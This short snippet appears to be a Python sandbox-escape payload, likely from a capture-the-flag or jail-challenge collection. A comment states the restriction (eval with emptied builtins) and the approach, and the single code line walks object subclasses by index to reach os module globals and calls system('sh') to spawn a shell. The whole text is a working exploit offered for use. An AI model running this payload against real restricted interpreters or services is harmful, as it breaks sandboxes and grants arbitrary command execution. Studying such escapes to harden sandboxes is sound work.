# restriction: builtins removed (eval with empty __builtins__); idea: walk object.__subclasses__() by numeric index to os._wrap_close and its module globals
().__class__.__base__.__subclasses__()[140].__init__.__globals__['system']('sh')
